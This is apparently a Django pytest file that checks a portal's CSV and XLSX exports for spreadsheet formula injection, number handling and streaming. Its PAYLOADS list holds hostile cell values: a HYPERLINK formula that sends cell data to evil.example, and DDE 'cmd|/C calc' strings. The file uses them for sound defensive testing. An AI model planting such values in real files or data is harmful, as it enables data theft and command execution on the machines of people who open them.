"""Every export, with a hostile value typed into every text column: no cell of a CSV
or a workbook can run as a formula, numbers stay numbers, and the big ones stream."""

import csv
import io
import itertools
import zipfile
from decimal import Decimal

import pytest
from django.apps import apps
from django.db import models
from django.http import StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from alliance_portal.documents import document_render
from alliance_portal.models import DocumentJob

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
OUR_APPS = ("members", "memoranda", "projects", "reviews", "grants", "forums")
# Fields that are not typed text (keys, codes the code looks up by) stay as they are.
KEPT = {"slug", "code", "password", "key", "email", "language", "content_type"}
# Codes whose format a database constraint checks (bank requisites, hashes).
KEPT |= {"iban", "bik", "kbe", "sha256", "problem_signature"}
NUMBER = r"^-?\d+(\.\d+)?$"


def _poison_every_text_column():
    """Write a payload into every free-text column of every row of our apps."""
    counter = itertools.count()
    for model in apps.get_models():
        if model._meta.app_label not in OUR_APPS or model._meta.proxy:
            continue
        fields = []
        for field in model._meta.concrete_fields:
            if not isinstance(field, (models.CharField, models.TextField)):
                continue
            if field.choices or field.name in KEPT or field.primary_key:
                continue
            if isinstance(field, (models.SlugField, models.EmailField)):
                continue
            if model._meta.label == "members.User" and field.name != "full_name":
                continue
            fields.append((field, PAYLOADS[next(counter) % len(PAYLOADS)]))
        if not fields:
            continue
        # Row by row, with the row's id appended, so unique columns stay unique.
        for pk in model.objects.values_list("pk", flat=True):
            updates = {}
            for field, payload in fields:
                suffix = f" #{pk}"
                limit = (field.max_length or 10_000) - len(suffix)
                updates[field.name] = payload[:limit] + suffix
            model.objects.filter(pk=pk).update(**updates)


def _is_unsafe(value) -> bool:
    import re

    if not isinstance(value, str) or not value:
        return False
    return value.startswith(TRIGGERS) and not re.match(NUMBER, value)


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _cells_of_csv(body: bytes):
    text = body.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        yield from row


def _cells_of_xlsx(body: bytes):
    book = load_workbook(io.BytesIO(body))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                yield cell.value


@pytest.fixture
def world(make_user):
    from forums.tests.factories import EventFactory, ForumFactory, RegistrationFactory
    from grants import services
    from grants.tests.factories import (
        fund_officer_of,
        make_grant,
        pay_tranche,
        png_upload,
        staff_user,
    )

    staff = staff_user()
    grant = make_grant(actor=staff, signed=True)
    pay_tranche(
        grant.tranches.first(), staff=staff, officer=fund_officer_of(grant.funder)
    )
    services.expenditure_record(
        grant=grant,
        actor=staff,
        budget_line_id=grant.budget_lines.first().pk,
        spent_on=grant.starts_on,
        description="Кітаптар",
        amount=Decimal("-0.00") + Decimal("12345.67"),
        supplier="ЖК Арал",
        payment_document="ПП-1",
        receipt=png_upload(),
    )
    forum, event = ForumFactory(), EventFactory()
    RegistrationFactory(forum=forum)
    RegistrationFactory(event=event, forum=None)
    _poison_every_text_column()
    return {"staff": staff, "grant": grant, "forum": forum, "event": event}


def _export_urls(world):
    """Every export of the portal, by URL name; a new export URL must join the list
    (see test_every_export_url_is_walked)."""
    forum, event = world["forum"].pk, world["event"].pk
    return {
        "grants:export": [reverse("grants:export", args=[f]) for f in ("csv", "xlsx")],
        "projects:screening_export": [
            reverse("projects:screening_export", args=[f]) for f in ("csv", "xlsx")
        ],
        "forums:participants_export": [
            reverse("forums:participants_export", args=[k, pk, f])
            for k, pk in (("forum", forum), ("event", event))
            for f in ("csv", "xlsx")
        ],
        "dashboard:open_data": [
            reverse("dashboard:open_data", args=[d, "csv"])
            for d in ("projects", "members", "memoranda", "calls")
        ],
    }


EXPORT_URL_NAMES = {
    "grants:export",
    "projects:screening_export",
    "forums:participants_export",
    "dashboard:open_data",
    # Rendered by Celery as documents; checked below through their builders.
    "grants:dossier",
    "dashboard:export",
}


def test_every_export_url_is_walked():
    from alliance_portal.tests.urlwalk import portal_urls

    exporting = {
        u.name
        for u in portal_urls()
        if any(w in u.name for w in ("export", "open_data", "dossier"))
    }
    assert exporting == EXPORT_URL_NAMES


def test_no_export_cell_can_run_as_a_formula(client, world):
    client.force_login(world["staff"])
    neutralised = 0
    for name, urls in _export_urls(world).items():
        reached = 0
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            body = _body(response)
            cells = list(
                _cells_of_xlsx(body)
                if url.endswith(("xlsx/", ".xlsx"))
                else _cells_of_csv(body)
            )
            unsafe = [c for c in cells if _is_unsafe(c)]
            assert unsafe == [], (name, url, unsafe[:3])
            hits = [c for c in cells if isinstance(c, str) and c.startswith("'")]
            reached += len(hits)
        assert reached, f"{name}: no payload reached this export"
        neutralised += reached
    assert neutralised > 20


def test_the_audit_dossiers_ledger_is_neutralised(world):
    job = DocumentJob.objects.create(
        kind="grant_dossier",
        key="dossier:hostile",
        params={"grant_id": world["grant"].pk},
        requested_by=world["staff"],
    )
    document_render(job_id=str(job.pk))
    job.refresh_from_db()
    archive = zipfile.ZipFile(job.file.open("rb"))
    ledger_name = next(n for n in archive.namelist() if "ledger" in n)
    cells = list(_cells_of_xlsx(archive.read(ledger_name)))
    assert [c for c in cells if _is_unsafe(c)] == []
    assert "'" + PAYLOADS[0][:10] in "".join(str(c) for c in cells) or any(
        isinstance(c, str) and c.startswith("'") for c in cells
    )
    # and the money is still a number a spreadsheet can add up
    assert Decimal("12345.67") in [
        Decimal(str(c)) for c in cells if isinstance(c, (int, float))
    ]


@pytest.mark.parametrize("value", PAYLOADS)
def test_the_writer_neutralises_each_trigger(value):
    from alliance_portal import exports

    assert exports.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 4.5, None])
def test_numbers_stay_numbers(value):
    from alliance_portal import exports

    assert exports.safe_cell(value) == ("" if value is None else value)


def test_csv_streams_rows_as_they_come():
    from alliance_portal import exports

    # given a generator that would fail if anything read past the first rows
    def rows():
        yield ["=1", Decimal("-5.00")]
        yield ["ok", 3]
        raise AssertionError("read too far")

    response = exports.csv_response("x.csv", ["a", "b"], rows())
    assert isinstance(response, StreamingHttpResponse)
    lines = iter(response.streaming_content)
    assert next(lines).decode() == "\ufeff"
    assert next(lines).decode() == "a,b\r\n"
    assert next(lines).decode() == "'=1,-5.00\r\n"
    assert next(lines).decode() == "ok,3\r\n"
